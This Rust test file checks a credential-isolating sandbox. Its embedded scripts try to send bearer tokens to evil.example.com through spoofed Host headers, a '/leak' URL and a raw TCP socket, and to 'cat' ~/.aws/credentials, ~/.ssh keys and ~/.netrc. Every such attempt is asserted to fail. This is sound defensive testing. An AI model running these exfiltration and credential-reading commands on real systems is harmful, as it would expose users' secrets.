//! Credentials and those who would have them: other hosts, other connections, other files.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use belljar_testkit::{Reply, Upstream};
use serde_json::json;

use super::*;

const ASK: &str = r#"
token = os.environ["TOKEN"]
def ask(url, token=token, dial=None, **headers):
    got = fetch(url, headers={"authorization": "Bearer " + token, **headers}, dial=dial)
    return [got["status"], got.get("belljar")]
"#;

#[test]
fn b10_a_token_that_is_handed_out_becomes_a_placeholder() {
    const FRESH: &str = "ghs_aTokenThatTheServerMadeForThisSession0";
    let authority = Authority::new();
    let api = Upstream::tls(&authority, &["api.example.com"], |received| {
        if received.path == "/login" {
            let body = json!({ "access_token": FRESH, "again": FRESH, "kind": "bearer" });
            return Reply::new(200, body.to_string()).header("content-type", "application/json");
        }
        Reply::new(200, received.to_json().to_string())
    });
    let rules = [rule("api.example.com", api.address(), "secrets = [\"token\"]")];
    let declared = secret("\"api.example.com\"", "captures = [\"/login json:/access_token\"]");
    let lab = with_secret(&authority, &rules, &declared);
    let script = r#"
ours = {"authorization": "Bearer " + os.environ["TOKEN"]}
login = fetch("https://api.example.com/login", "POST", headers=ours)
fresh = json.loads(login["body"])["access_token"]
used = fetch("https://api.example.com/use", headers={"authorization": "Bearer " + fresh})
elsewhere = fetch("https://api.example.com/leak?t=" + fresh, headers=ours)
tell([login, fresh, used["status"], used["body"], elsewhere["status"]])
"#;
    let told = told(&lab, script);
    assert!(!told.to_string().contains(FRESH), "{told}");
    assert_ne!(told[1], "", "{told}");
    assert_eq!((&told[2], &told[4]), (&json!(200), &json!(403)), "{told}");
    let received = api.received();
    assert_eq!(received.len(), 2);
    assert_eq!(received[1].header("authorization"), Some(format!("Bearer {FRESH}").as_str()));
    let log = lab.belljar(["ledger", "log", "--json", "--limit", "100000"]).succeed();
    assert!(!log.contains(FRESH) && log.contains("secret.used"), "{log}");
}

#[test]
fn b12_a_spoofed_host_turns_no_secret_elsewhere() {
    let authority = Authority::new();
    let api = Upstream::echo(&authority, &["api.example.com"]);
    let evil = Upstream::echo(&authority, &["evil.example.com"]);
    let rules = [
        rule("api.example.com", api.address(), "secrets = [\"token\"]"),
        rule("evil.example.com", evil.address(), ""),
    ];
    let lab = with_secret(&authority, &rules, &secret("\"api.example.com\"", ""));
    let script = format!(
        r#"{ASK}
tell([
    ask("https://api.example.com/"),
    fetch("https://evil.example.com/control")["status"],
    ask("https://evil.example.com/", host="api.example.com"),
    ask("https://evil.example.com/", **{{"x-forwarded-host": "api.example.com"}}),
    ask("https://evil.example.com/"),
    ask("https://api.example.com/", host="evil.example.com"),
    ask("https://api.example.com/hard", dial="203.0.113.9"),
])"#
    );
    let told = told(&lab, &script);
    let stopped = json!([403, "placeholder-to-other-host"]);
    let expect = json!([
        [200, null],
        200,
        [421, "misdirected"],
        stopped,
        stopped,
        [421, "misdirected"],
        [200, null],
    ]);
    assert_eq!(told, expect);
    assert_eq!(evil.received().len(), 1, "the control's");
    let paths: Vec<String> = api.received().into_iter().map(|it| it.path).collect();
    assert_eq!(paths, ["/", "/hard"], "to its own server, wherever the box dialled");
    on_record(&lab, "evil.example.com", "misdirected");
    alarmed(&lab, "placeholder-to-other-host");
}

#[test]
fn b13_no_secret_goes_where_it_could_be_read() {
    let authority = Authority::new();
    let api = Upstream::echo(&authority, &["api.example.com"]);
    let plain = Upstream::plain(|received| Reply::new(200, received.to_json().to_string()));
    let raw = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = raw.local_addr().unwrap();
    let heard = std::thread::spawn(move || {
        let mut all = Vec::new();
        for _ in 0..2 {
            let (mut stream, _) = raw.accept().unwrap();
            stream.write_all(b"hello\n").unwrap();
            let mut bytes = Vec::new();
            stream.read_to_end(&mut bytes).ok(); // it is broken off
            all.push(String::from_utf8_lossy(&bytes).into_owned());
        }
        all
    });
    let rules = [
        rule("api.example.com", api.address(), "secrets = [\"token\"]"),
        rule("api.example.com", plain.address(), "port = 80"),
        format!(
            "[[template.default.allow]]\ntcp = \"raw.internal:7000\"\nconnect = \"{address}\"\n"
        ),
    ];
    let lab = with_secret(&authority, &rules, &secret("\"api.example.com\"", ""));
    let script = format!(
        r#"{ASK}
def raw(words):
    stream = tcp("raw.internal", 7000)
    stream.recv(100)
    stream.sendall(words.encode())
    stream.shutdown(socket.SHUT_WR)
    return hear(stream).decode()
tell([ask("https://api.example.com/"), fetch("http://api.example.com/control")["status"], ask("http://api.example.com/"),
      raw("a word\n"), raw(f"AUTH {{token}}\n")])
"#
    );
    let told = told(&lab, &script);
    let expect = json!([[200, null], 200, [403, "placeholder-in-clear"], "", ""]);
    assert_eq!(told, expect);
    let paths: Vec<String> = plain.received().into_iter().map(|it| it.path).collect();
    assert_eq!(paths, ["/control"]);
    let heard = heard.join().unwrap();
    assert_eq!(heard, ["a word\n", ""], "not a byte of the word with the placeholder");
    alarmed(&lab, "placeholder-in-clear");
    alarmed(&lab, "placeholder-elsewhere");
    on_record(&lab, "api.example.com", "placeholder-in-clear");
    // And it cannot be asked for: not over plain HTTP, and not where nobody looks.
    for more in ["port = 80", "tls = \"passthrough\""] {
        let wrong =
            rule("api.example.com", api.address(), &format!("secrets = [\"token\"]\n{more}"));
        let declared = secret("\"api.example.com\"", "");
        lab.configure_for(
            &authority,
            &format!(
                "[template.default]\nnet = \"restricted\"\nsecrets = [\"token\"]\n{wrong}{declared}"
            ),
        );
        lab.bash("true").run().complains(2, "secrets");
    }
}

#[test]
fn b20_the_operators_own_credentials_are_not_in_the_box() {
    let lab = lab();
    let dir = lab.home().join(".aws");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("credentials");
    std::fs::write(&file, format!("[default]\naws_secret_access_key = {REAL}\n")).unwrap();
    assert!(lab.program("cat").arg(&file).succeed().contains(REAL), "control: on the host");
    let path = file.display().to_string();
    let script = format!(
        "cat {path} ~/.aws/credentials ~root/.aws/credentials 2>&1; echo $?; \
         cat ~/.ssh/* ~/.netrc ~/.config/gh/hosts.yml 2>/dev/null | wc -c"
    );
    let out = lab.bash(&script).run().expect(0);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[..3].iter().all(|it| it.ends_with("No such file or directory")), "{out}");
    assert_eq!(lines[3..], ["1", "0"], "{out}");
    // Control: it is there when the operator says so.
    let mount = format!("{}:/keys:ro", dir.display());
    let shown = lab.belljar(["run", "--mount", &mount, "--", "cat", "/keys/credentials"]);
    assert!(shown.run().expect(0).contains(REAL));
    assert_eq!(record(&lab, "run.ended").len(), 2);
}

#[test]
fn b21_no_file_of_the_workspace_adds_a_rule_or_a_secret() {
    let authority = Authority::new();
    let api = Upstream::echo(&authority, &["api.example.com"]);
    let evil = Upstream::echo(&authority, &["evil.example.com"]);
    let rules = [rule("api.example.com", api.address(), "secrets = [\"token\"]")];
    let lab = with_secret(&authority, &rules, &secret("\"api.example.com\"", ""));
    let code = "curl -sS -o /dev/null -w '%{http_code}' https://api.example.com/";
    assert_eq!(lab.bash(code).run().expect(0), "200");
    // A file of the project is read, and may tighten.
    lab.write("belljar.toml", "[template.default]\ndeny = [\"api.example.com\"]\n");
    assert_ne!(lab.bash(code).run().code(), 0);
    let connect = rule("evil.example.com", evil.address(), "");
    let looser = [
        "[template.default]\nallow = [\"evil.example.com\"]\n",
        "[template.default]\nnet = \"full\"\n",
        "[template.default]\nsecrets = [\"other\"]\n",
        "[secret.token]\nhosts = [\"evil.example.com\"]\n",
        "[secret.other]\nhosts = [\"evil.example.com\"]\n",
        "[tls]\nroots = [\"evil.pem\"]\n",
        "[dns]\nservers = [\"192.0.2.1\"]\n",
        "[proxy]\nurl = \"http://192.0.2.1:8080\"\n",
        "[vault]\nkey-command = [\"cat\", \"key\"]\n",
        connect.as_str(),
    ];
    for text in looser {
        lab.write("belljar.toml", text);
        lab.bash("true").run().complains(2, "belljar.toml");
    }
    std::fs::remove_file(lab.workspace().join("belljar.toml")).unwrap();
    // One that the box writes changes nothing, neither at once nor for the next run.
    let script = "printf '[template.default]\\nallow = [\"evil.example.com\"]\\n' > belljar.toml; \
                  mkdir -p ~/.config/belljar; cp belljar.toml ~/.config/belljar/; \
                  curl -sS https://evil.example.com/; echo $?";
    let ended = lab.bash(script).run();
    assert_eq!(ended.expect(0), "6", "{}", ended.err());
    assert!(!lab.workspace().join("belljar.toml").exists());
    assert_eq!(lab.bash("curl -sS https://evil.example.com/").run().code(), 6);
    assert!(evil.received().is_empty());
    let names = record(&lab, "dns.decided");
    let refused = |it: &Value| it["name"] == "evil.example.com" && it["verdict"] == "deny";
    assert!(names.iter().any(refused), "{names:#?}");
}
